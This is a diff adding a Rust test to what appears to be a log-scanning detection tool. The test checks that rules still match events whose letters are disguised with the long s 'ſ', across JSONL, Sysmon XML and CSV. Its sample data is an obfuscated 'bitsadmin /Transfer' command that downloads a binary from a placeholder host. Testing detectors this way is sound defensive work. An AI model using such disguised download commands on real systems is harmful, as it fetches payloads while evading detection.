@@ -112,3 +112,32 @@ fn tel_75_event_logs_give_the_same_output_by_any_number_of_jobs() {
 fn no_jobs_at_all_is_wrong_usage() {
     assert_eq!(run("0", &[PathBuf::from("x")]).status.code(), Some(2));
 }
+
+/// Letters that fold to those of the rule, in each format of text and as escapes (RUL-30).
+#[test]
+fn events_whose_letters_fold_to_those_of_the_rule_are_found() {
+    const LINE: &str = r"bitsadmin /Tranſfer j http://files.example/a.bin C:\a.bin";
+    let row = serde_json::json!({"ActionType": "ProcessCreated", "DeviceId": "7", "DeviceName": "pc",
+        "FileName": "bitſadmin.exe", "ProcessCommandLine": LINE, "ProcessId": 7, "Timestamp": "2026-01-02T03:04:05Z"});
+    let csv = "Timestamp,DeviceId,DeviceName,ActionType,FileName,ProcessCommandLine,ProcessId\r\n";
+    let event = format!(
+        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
+         <Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID></System><EventData>\
+         <Data Name='Image'>C:\\BITſADMIN.EXE</Data><Data Name='CommandLine'>{LINE}</Data></EventData></Event>\n"
+    );
+    let files = [
+        ("plain.jsonl", format!("{row}\n")),
+        ("escaped.jsonl", format!("{row}\n").replace('ſ', r"\u017f")),
+        ("plain.xml", event.clone()),
+        ("references.xml", event.replace('ſ', "&#x17F;")),
+        ("portal.csv", format!("{csv}2026-01-02T03:04:05Z,7,pc,ProcessCreated,bitſadmin.exe,{LINE},7\r\n")),
+    ];
+    let folder = tempfile::tempdir().unwrap();
+    for (name, text) in files {
+        let path = folder.path().join(name);
+        fs::write(&path, text).unwrap();
+        let output = the_same(&[path]);
+        let found: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_default();
+        assert_eq!(found["ProcessCommandLine"], LINE, "{name}: {}", String::from_utf8_lossy(&output.stderr));
+    }
+}
